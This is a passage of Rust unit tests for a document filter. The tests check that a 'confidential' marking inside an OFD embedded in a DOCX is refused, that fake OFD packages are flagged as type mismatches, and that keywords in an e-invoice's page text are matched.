        let inner = ofd_with("", &text_object(20, &["机密"]), &[]);
        let docx = |ofd: &[u8]| {
            zip_of(&[
                ("[Content_Types].xml", b"<Types/>"),
                ("word/document.xml", b"<w:document xmlns:w=\"w\"/>"),
                ("word/embeddings/oleObject1.ofd", ofd),
            ])
        };
        let r = judge(&p, "a.docx", &docx(&inner)).unwrap_err();
        assert_eq!(r.reason, Reason::ClassificationMarking, "{r}");
        let clean = ofd_with("", &text_object(20, &["判决"]), &[]);
        assert_eq!(judge(&p, "a.docx", &docx(&clean)), Ok(0));
    }

    #[test]
    fn an_ofd_must_have_its_root_entry() {
        let p = keywords("\"x-none\"", true);
        // no OFD.xml: a zip, whatever its name
        let plain = zip_of(&[("Doc_0/Document.xml", b"<a/>")]);
        let r = judge(&p, "a.ofd", &plain).unwrap_err();
        assert!(
            matches!(r.reason, Reason::TypeRefused | Reason::TypeMismatch),
            "{r}"
        );
        // an OFD.xml whose root is not ofd:OFD
        let fake = zip_of(&[("OFD.xml", b"<not-ofd/>"), ("x.txt", b"x")]);
        let r = judge(&p, "a.ofd", &fake).unwrap_err();
        assert_eq!(r.reason, Reason::TypeMismatch, "{r}");
        let other_ns = zip_of(&[("OFD.xml", b"<ofd:OFD xmlns:ofd=\"urn:x\"/>")]);
        let r = judge(&p, "a.ofd", &other_ns).unwrap_err();
        assert_eq!(r.reason, Reason::TypeMismatch, "{r}");
        let real = zip_of(&[("OFD.xml", MAIN.as_bytes())]);
        assert_eq!(judge(&p, "a.ofd", &real), Ok(0));
    }

    #[test]
    fn the_e_invoice_case_is_an_ofd_whose_text_is_read() {
        let case = std::fs::read(concat!(
            env!("CARGO_MANIFEST_DIR"),
            "/tests/cases/to-court/电子发票_诉讼费.ofd"
        ))
        .unwrap();
        assert_eq!(detect(&case, "ofd").family, "ofd");
        assert_eq!(judge(&inbound(), "电子发票_诉讼费.ofd", &case), Ok(0));
        // its text is read: a keyword from its page refuses it (the name does not carry it)
        let p = keywords("\"诉讼费\"", true);
        let r = judge(&p, "invoice.ofd", &case).unwrap_err();
        assert_eq!(r.reason, Reason::KeywordMatch, "{r}");
        assert!(r.detail.contains("Content.xml"), "{r}");
        assert_eq!(
            judge(&keywords("\"x-none\"", true), "invoice.ofd", &case),
            Ok(0)
        );
    }
}
